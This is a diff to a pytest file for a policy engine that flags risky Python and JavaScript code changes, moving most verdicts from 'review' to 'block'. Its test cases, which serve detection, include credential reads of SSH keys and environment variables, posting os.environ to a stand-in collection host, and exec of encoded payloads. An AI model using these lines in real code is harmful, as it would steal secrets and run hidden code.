@@ -9,6 +9,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from runner.model import Goal
 from runner.policy import javascript_uses, python_uses
 
 Said = Callable[..., dict[str, str]]
@@ -18,49 +19,49 @@ BASE = "import os\nimport re\n\n\ndef area(w, h):\n    return w + h\n"
 @pytest.mark.parametrize(
     ("lines", "rules"),
     [
-        ("eval(w)", {"code.dynamic": "review"}),
-        ("run = exec; run(w)", {"code.dynamic": "review"}),
-        ('getattr(__builtins__, "ev" + "al")(w)', {"code.dynamic": "review"}),
-        ('__builtins__["lave"[::-1]](w)', {"code.dynamic": "review"}),
-        ("getattr(os, w)(h)", {"code.dynamic": "review"}),
-        ("os.system(w)", {"code.shell": "review"}),
-        ("from os import system as s; s(w)", {"code.shell": "review"}),
-        ('__import__("o" + "s").popen(w)', {"code.shell": "review"}),
-        ("import subprocess; subprocess.run(w, shell=True)", {"code.shell": "review"}),
-        ("import subprocess; subprocess.run(w, shell=h)", {"code.shell": "review"}),
-        ('import subprocess; subprocess.run(["sh", "-c", w])', {"code.shell": "review"}),
-        ('import subprocess; subprocess.run(["git", "log"])', {"code.process": "review"}),
-        ("import importlib; importlib.import_module(w)", {"code.computed_import": "review"}),
-        ("__import__(w)", {"code.computed_import": "review"}),
-        ("import pickle; pickle.loads(w)", {"code.deserialize": "review"}),
-        ("import yaml; yaml.load(w)", {"code.deserialize": "review"}),
-        ("import yaml; yaml.load(w, Loader=yaml.Loader)", {"code.deserialize": "review"}),
-        ("import marshal, shelve; shelve.open(w)", {"code.deserialize": "review"}),
-        ("import ctypes; ctypes.CDLL(w)", {"code.native": "review"}),
-        ("import requests; requests.get(w)", {"code.network": "review"}),
-        ("import urllib.request as u; u.urlopen(w)", {"code.network": "review"}),
-        ("from socket import *", {"code.network": "review"}),
-        ("import http.client; http.client.HTTPSConnection(w)", {"code.network": "review"}),
-        ("import requests; requests.get(w, verify=False)", {"code.network": "review", "code.tls": "review"}),
+        ("eval(w)", {"code.dynamic": "block"}),
+        ("run = exec; run(w)", {"code.dynamic": "block"}),
+        ('getattr(__builtins__, "ev" + "al")(w)', {"code.dynamic": "block"}),
+        ('__builtins__["lave"[::-1]](w)', {"code.dynamic": "block"}),
+        ("getattr(os, w)(h)", {"code.dynamic": "block"}),
+        ("os.system(w)", {"code.shell": "block"}),
+        ("from os import system as s; s(w)", {"code.shell": "block"}),
+        ('__import__("o" + "s").popen(w)', {"code.shell": "block"}),
+        ("import subprocess; subprocess.run(w, shell=True)", {"code.shell": "block"}),
+        ("import subprocess; subprocess.run(w, shell=h)", {"code.shell": "block"}),
+        ('import subprocess; subprocess.run(["sh", "-c", w])', {"code.shell": "block"}),
+        ('import subprocess; subprocess.run(["git", "log"])', {"code.process": "block"}),
+        ("import importlib; importlib.import_module(w)", {"code.computed_import": "block"}),
+        ("__import__(w)", {"code.computed_import": "block"}),
+        ("import pickle; pickle.loads(w)", {"code.deserialize": "block"}),
+        ("import yaml; yaml.load(w)", {"code.deserialize": "block"}),
+        ("import yaml; yaml.load(w, Loader=yaml.Loader)", {"code.deserialize": "block"}),
+        ("import marshal, shelve; shelve.open(w)", {"code.deserialize": "block"}),
+        ("import ctypes; ctypes.CDLL(w)", {"code.native": "block"}),
+        ("import requests; requests.get(w)", {"code.network": "block"}),
+        ("import urllib.request as u; u.urlopen(w)", {"code.network": "block"}),
+        ("from socket import *", {"code.network": "block"}),
+        ("import http.client; http.client.HTTPSConnection(w)", {"code.network": "block"}),
+        ("import requests; requests.get(w, verify=False)", {"code.network": "block", "code.tls": "block"}),
         ("import tempfile; tempfile.mktemp()", {"code.temporary": "review"}),
-        ('open("/etc/cron.d/x", "w")', {"code.files": "review"}),
-        ('import pathlib; pathlib.Path("~/.profile").write_text(w)', {"code.files": "review"}),
+        ('open("/etc/cron.d/x", "w")', {"code.files": "block"}),
+        ('import pathlib; pathlib.Path("~/.profile").write_text(w)', {"code.files": "block"}),
         ('open("/root/.ssh/id_rsa").read()', {"code.credentials": "block"}),
         ("KEY = '/home/a/.SSH/'", {"code.credentials": "block"}),
         ('open(f"/proc/self/environ").read()', {"code.credentials": "block"}),
         (
             'import requests; requests.post("https://collect.example/", json=dict(os.environ))',
-            {"code.network": "review", "code.credentials": "block"},
+            {"code.network": "block", "code.credentials": "block"},
         ),
         (
             'import base64; exec(base64.b64decode("cHJpbnQoMSk="))',
-            {"code.dynamic": "review", "code.decoded": "block"},
+            {"code.dynamic": "block", "code.decoded": "block"},
         ),
         (
             'x = bytes.fromhex("7072696e74"); exec(x)',
-            {"code.dynamic": "review", "code.decoded": "block"},
+            {"code.dynamic": "block", "code.decoded": "block"},
         ),
-        ('exec("cevag(1)".encode().decode("rot13"))', {"code.dynamic": "review", "code.decoded": "block"}),
+        ('exec("cevag(1)".encode().decode("rot13"))', {"code.dynamic": "block", "code.decoded": "block"}),
         # twins that are nothing
         ("re.compile(w)", {}),
         ("w.eval(h)", {}),
@@ -89,18 +90,38 @@ def test_what_was_used_before_is_nothing_new(said: Said) -> None:
     before = "import os\nos.system('ls')\neval('1')\n"
     assert said({"a.py": before}, {"a.py": f"# more\n{before}"}) == {}
     assert said({"a.py": before}, {"a.py": before.replace("'ls'", "'ls -l'")}) == {}
-    assert said({"a.py": before}, {"a.py": f"{before}os.system('id')\n"}) == {"code.shell": "review"}
+    assert said({"a.py": before}, {"a.py": f"{before}os.system('id')\n"}) == {"code.shell": "block"}
 
 
 def test_a_new_import_gives_old_lines_another_meaning(said: Said) -> None:
     before = "from mine import system\nsystem('ls')\n"
-    assert said({"a.py": before}, {"a.py": before.replace("mine", "os")}) == {"code.shell": "review"}
+    assert said({"a.py": before}, {"a.py": before.replace("mine", "os")}) == {"code.shell": "block"}
 
 
 def test_a_module_of_the_repository_is_not_its_namesake(said: Said) -> None:
     base = {"src/requests/__init__.py": "", "src/requests/api.py": "", "tests/test_api.py": "import requests\n"}
     head = {**base, "tests/test_api.py": "import requests\nrequests.get('https://host.example/')\n"}
     assert said(base, head) == {}
+
+
+def test_tests_and_improvements_may_have_a_reason(said: Said) -> None:
+    base = {"area.py": BASE, "tests/test_area.py": "import area\n"}
+    for line, kind in (("eval('1')", "dynamic"), ("import pickle; pickle.loads(b'')", "deserialize")):
+        test = {**base, "tests/test_area.py": f"import area\n{line}\n"}
+        product = {**base, "area.py": f"{BASE}\n{line}\n"}
+        assert said(base, test) == {f"code.{kind}": "review"}
+        assert said(base, product) == {f"code.{kind}": "block"}
+        assert said(base, product, Goal.IMPROVE) == {f"code.{kind}": "review"}
+    hidden = {**base, "area.py": f"{BASE}\nimport base64; exec(base64.b64decode('eA=='))\n"}
+    assert said(base, hidden, Goal.IMPROVE)["code.decoded"] == "block"
+
+
+def test_who_used_the_network_before_is_shown_unless_somebody_new_is_named(said: Said) -> None:
+    before = "import requests\n\n\ndef one(url):\n    return requests.get(url)\n"
+    more = "\n\ndef two(url):\n    return requests.get(url)\n"
+    assert said({"net.py": before}, {"net.py": before + more}) == {"code.network": "review"}
+    named = more.replace("(url)\n", "('https://collect.example/')\n")
+    assert said({"net.py": before}, {"net.py": before + named}) == {"code.network": "block"}
 
 
 @pytest.mark.parametrize(
@@ -137,23 +158,23 @@ def test_a_source_that_cannot_be_parsed_any_more(said: Said) -> None:
 @pytest.mark.parametrize(
     ("line", "rules"),
     [
-        ("eval(x);", {"code.dynamic": "review"}),
-        ("globalThis.eval(x);", {"code.dynamic": "review"}),
-        ("new Function('a', x)();", {"code.dynamic": "review"}),
-        ("[].constructor.constructor(x)();", {"code.dynamic": "review"}),
-        ("setTimeout('go()', 1);", {"code.dynamic": "review"}),
-        ("const cp = require('child_process');", {"code.process": "review"}),
-        ("import { exec } from 'node:child_process';", {"code.process": "review"}),
-        ("import vm from 'vm';", {"code.dynamic": "review"}),
-        ("fetch('https://collect.example/');", {"code.network": "review"}),
-        ("const h = require('https'); h.get(x);", {"code.network": "review"}),
-        ("import axios from 'axios';", {"code.network": "review"}),
-        ("process.binding('fs');", {"code.native": "review"}),
-        ("require(x);", {"code.computed_import": "review"}),
-        ("require('child_' + x);", {"code.computed_import": "review"}),
-        ("require(`child_${x}`);", {"code.computed_import": "review"}),
-        ("await import(x);", {"code.computed_import": "review"}),
-        ("eval(atob(x));", {"code.dynamic": "review", "code.decoded": "block"}),
+        ("eval(x);", {"code.dynamic": "block"}),
+        ("globalThis.eval(x);", {"code.dynamic": "block"}),
+        ("new Function('a', x)();", {"code.dynamic": "block"}),
+        ("[].constructor.constructor(x)();", {"code.dynamic": "block"}),
+        ("setTimeout('go()', 1);", {"code.dynamic": "block"}),
+        ("const cp = require('child_process');", {"code.process": "block"}),
+        ("import { exec } from 'node:child_process';", {"code.process": "block"}),
+        ("import vm from 'vm';", {"code.dynamic": "block"}),
+        ("fetch('https://collect.example/');", {"code.network": "block"}),
+        ("const h = require('https'); h.get(x);", {"code.network": "block"}),
+        ("import axios from 'axios';", {"code.network": "block"}),
+        ("process.binding('fs');", {"code.native": "block"}),
+        ("require(x);", {"code.computed_import": "block"}),
+        ("require('child_' + x);", {"code.computed_import": "block"}),
+        ("require(`child_${x}`);", {"code.computed_import": "block"}),
+        ("await import(x);", {"code.computed_import": "block"}),
+        ("eval(atob(x));", {"code.dynamic": "block", "code.decoded": "block"}),
         ("read(`${home}/.ssh/id_rsa`);", {"code.credentials": "block"}),
         ("send(JSON.stringify(process.env));", {"code.credentials": "block"}),
         # twins that are nothing
